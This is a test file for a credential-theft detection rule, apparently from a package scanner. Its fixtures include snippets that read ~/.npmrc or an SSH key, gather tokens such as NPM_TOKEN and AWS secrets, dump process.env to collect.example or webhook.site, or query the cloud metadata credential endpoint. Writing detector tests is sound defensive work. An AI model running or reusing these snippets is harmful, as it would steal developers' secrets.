import { testFileRule } from '../../test/rule-cases.ts';
import { credentialTheft } from './credential-theft.ts';

testFileRule(credentialTheft, [
  {
    name: '.npmrc is read and posted',
    text: `const fs = require('fs'), os = require('os'), https = require('https');
      const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
      https.request({ host: 'collect.example', method: 'POST' }).end(rc);`,
    tier: 'review',
  },
  {
    name: 'the whole environment is sent',
    text: `import https from 'node:https';
      https.request('https://collect.example', { method: 'POST' }).end(JSON.stringify(process.env));`,
    tier: 'review',
  },
  {
    name: 'the environment goes to a webhook',
    text: `fetch('https://webhook.site/5f0c', { method: 'POST', body: JSON.stringify({ ...process.env }) });`,
    tier: 'block',
  },
  {
    name: 'a list of tokens is collected',
    text: `const found = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY, process.env.VAULT_TOKEN];
      require('axios').post('https://collect.example', { found });`,
    tier: 'review',
  },
  {
    name: 'names are hidden in base64',
    text: `const p = Buffer.from('Ly5zc2gvaWRfcnNh', 'base64').toString();
      fetch('https://collect.example', { method: 'POST', body: require('fs').readFileSync(process.env.HOME + p) });`,
    tier: 'review',
  },
  {
    name: 'cloud metadata is asked for',
    text: `fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then((r) => r.text())`,
    tier: 'review',
  },
  {
    name: 'one token for one service',
    text: `fetch('https://api.example', { headers: { authorization: process.env.GITHUB_TOKEN } })`,
    tier: null,
  },
  {
    name: 'one variable inside of a request',
    text: `fetch(\`\${process.env.API_URL}/x\`, { headers: { a: process.env.KEY } })`,
    tier: null,
  },
  {
    name: 'the environment is passed on to a child',
    text: `require('child_process').spawn('node', ['x'], { env: Object.assign({}, process.env) }); fetch('https://api.example')`,
    tier: null,
  },
  {
    name: 'options are looked for among all variables',
    text: `const net = require('net'); const options = Object.keys(process.env).filter((key) => /^debug_/i.test(key));
      new net.Socket({ fd: 1 });`,
    tier: null,
  },
  {
    name: 'options are put together of some variables',
    text: `const net = require('net'); const keys = new Set(['proxy']);
      const options = Object.entries(process.env).reduce((found, [key, value]) => {
        if (keys.has(key)) found[key] = value;
        return found;
      }, {});
      new net.Socket({ fd: 1 });`,
    tier: null,
  },
  {
    name: 'all variables are put together and sent',
    text: `const all = Object.entries(process.env).reduce((found, [key, value]) => {
        if (key.includes('_')) found[key] = value;
        return found;
      }, {});
      fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(all) });`,
    tier: 'review',
  },
  {
    name: 'variables are picked and dropped',
    text: `const found = Object.entries(process.env).filter(([key]) => /token/i.test(key));
      fetch('https://webhook.site/5f0c', { method: 'POST', body: JSON.stringify(found) });`,
    tier: 'block',
  },
  {
    name: 'configuration is read without any network',
    text: `require('fs').readFileSync(require('os').homedir() + '/.npmrc')`,
    tier: null,
  },
  {
    name: 'a comment',
    text: `// steals ~/.npmrc and ~/.ssh/id_rsa\nfetch('https://api.example')`,
    tier: null,
  },
]);
